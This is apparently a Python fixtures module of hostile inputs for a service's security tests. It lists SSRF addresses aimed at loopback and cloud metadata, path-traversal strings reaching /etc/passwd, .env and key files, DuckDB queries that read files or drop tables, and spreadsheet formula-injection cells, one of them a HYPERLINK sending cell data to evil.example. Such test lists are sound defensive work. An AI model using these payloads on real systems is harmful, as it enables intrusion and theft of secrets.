"""What attackers send: addresses that lead inside, paths that lead out, questions that ask for more, cells that compute."""

from __future__ import annotations

INSIDE = (
    "127.0.0.1", "127.0.0.2", "127.255.255.254", "127.1", "127.0.1", "0", "0.0.0.0", "0.0.0.1", "2130706433", "017700000001",
    "0x7f000001", "0x7f.0.0.1", "0x7f.1", "0177.0.0.1", "0177.1", "127.0.0.1.", "127.000.000.001", "00127.0.0.1",
    "localhost", "LOCALHOST", "localhost.", "ip6-localhost", "localhost.localdomain", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::ffff:0:127.0.0.1]", "[::127.0.0.1]", "[::7f00:1]",
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b::169.254.169.254]", "[64:ff9b:1::a9fe:a9fe]",
    "[2002:a9fe:a9fe::1]", "[2002:7f00:1::]", "[2001:0:53aa:64c:0:0:5601:5601]", "[2001:0:4136:e378:8000:63bf:80ff:fffe]",
    "[fd00:ec2::254]", "[fd20:ce::254]", "[fe80::1]", "[fe80::a9fe:a9fe%25eth0]", "[fe80::1%eth0]", "[fc00::1]", "[fd12::1]",
    "[ff02::1]", "[2001:db8::1]", "[2a00:1450:4001:0:0:5efe:7f00:1]", "[2606:4700::200:5efe:a9fe:a9fe]", "[100::1]",
    "10.0.0.1", "10.255.255.255", "172.16.0.1", "172.31.255.255", "192.168.0.1", "192.168.1.1", "100.64.0.1",
    "100.100.100.200", "192.0.0.8", "192.0.0.192", "192.0.2.1", "192.88.99.1", "198.18.0.1", "198.51.100.1", "203.0.113.1",
    "224.0.0.1", "239.255.255.255", "240.0.0.1", "255.255.255.255", "168.63.129.16", "metadata", "intranet",
    "①②⑦.⓪.⓪.①", "１２７.0.0.1", "127。0。0。1", "127%2e0%2e0%2e1", "loc%61lhost", "example.org@127.0.0.1",
    "127.0.0.1\\@example.org", "example.org:80@169.254.169.254", "[::1", "::1", "", ".", "-", "a..b",
)  # fmt: skip
"""Hosts of URLs that lead to this machine, its network, a cloud's metadata, or cannot be read in one way only."""

SCHEMES = (
    "file:///etc/passwd", "ftp://example.org/x", "gopher://example.org:70/_x", "dict://example.org:11211/stats",
    "ldap://example.org/x", "data:text/plain,x", "javascript:alert(1)", "jar:http://example.org!/x", "//example.org/x",
    "example.org/x", "http:example.org", "http:///x", "http://example.org:22/", "http://example.org:25/",
    "http://example.org:0/", "http://example.org:99999/", "http://example.org/\r\nHost: x", "http://example.org/ x",
    "http://user:pass@example.org/",
)  # fmt: skip
"""URLs that are none of the web's, or carry more than an address."""

NAMED = ("127.0.0.1", "169.254.169.254", "10.1.2.3", "::1", "::ffff:10.0.0.1", "64:ff9b::a9fe:a9fe", "2002:a00:1::", "fe80::1%2")
"""What a name may resolve to, alone or beside a public address."""

PATHS = (
    "/v1/../../etc/passwd", "/v1/..%2f..%2fetc%2fpasswd", "/v1/%2e%2e/%2e%2e/etc/passwd", "/v1/..%252f..%252fetc/passwd",
    "/..\\..\\etc\\passwd", "/v1/..%5c..%5cetc", "/v1/%c0%ae%c0%ae/etc/passwd", "/v1/health%00.json", "/v1//health",
    "//v1/health", "/v1/health/..", "/v1/./health", "/v1/health;x=1", "/V1/health/", "/v1/health%0d%0aX-Evil:1", "/var/vault.db",
    "/var/keys/master.key", "/.git/config", "/.env", "/access.yaml", "/static/../access.yaml", "/proc/self/environ",
    "/v1/persons/1/../../ledger", "/v1/persons/1%2f..%2f2", "/docs", "/redoc", "/openapi.json", "/debug", "/metrics/", "/admin",
)  # fmt: skip
"""Paths at which there has to be nothing."""

_LAKE = "read_parquet"  # named apart: no module beside the lake may read one, and a test looks for the call

QUESTIONS = (
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM '/etc/passwd'", f"SELECT * FROM {_LAKE}('**/*.parquet')",
    "SELECT * FROM read_text('/proc/self/environ')", "SELECT * FROM read_blob('var/keys/master.key')", "SELECT * FROM glob('/*')",
    "COPY profiles TO '/tmp/drill.csv'", "COPY (SELECT 1) TO '/tmp/drill.csv'", "ATTACH 'var/vault.db'", "ATTACH ':memory:' AS m",
    "INSTALL httpfs", "LOAD httpfs", "SET enable_external_access=true", "RESET lock_configuration", "PRAGMA database_list",
    "CALL pragma_version()", "SELECT * FROM duckdb_settings()", "SELECT * FROM duckdb_tables()", "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM information_schema.tables", "SELECT * FROM sqlite_master", "SELECT * FROM pg_catalog.pg_tables",
    "SELECT getenv('PATH')", "SELECT current_setting('allowed_directories')", "SELECT * FROM membership", "SELECT * FROM mask",
    "SELECT * FROM links", "SELECT * FROM memory.main.profiles", "SELECT 1; SELECT 2", "SELECT 1; DROP TABLE profiles",
    "SELECT 1 UNION ALL SELECT * FROM read_csv('/etc/passwd')", "WITH x AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM x",
    "SELECT (SELECT content FROM read_text('/etc/passwd'))", "EXPLAIN SELECT 1", "DESCRIBE profiles", "SHOW TABLES", "SUMMARIZE profiles",
    "INSERT INTO profiles VALUES (1)", "UPDATE profiles SET name = 'x'", "DELETE FROM profiles", "CREATE TABLE x AS SELECT 1",
    "EXPORT DATABASE '/tmp/drill'", "VACUUM", "CHECKPOINT", "SELECT query('SELECT 1')", "SELECT * FROM query_table('profiles')",
    "FROM read_json('http://169.254.169.254/')", "SELECT * FROM sniff_csv('/etc/passwd')", "SELECT $1", "SELECT getvariable('allow_key_any')",
    "SELECT record_id FROM records", "SELECT row_key FROM records", "SELECT batch FROM records", "SELECT nextval('x')",
    "SELECT * FROM profiles VERSION AS OF '../1'", "SELECT /*+ x */ * FROM \"var/vault.db\"",
)  # fmt: skip
"""Questions that no role may be answered."""

CELLS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "|x", "%0A=1",
)  # fmt: skip
"""Values that a spreadsheet would take for a formula."""
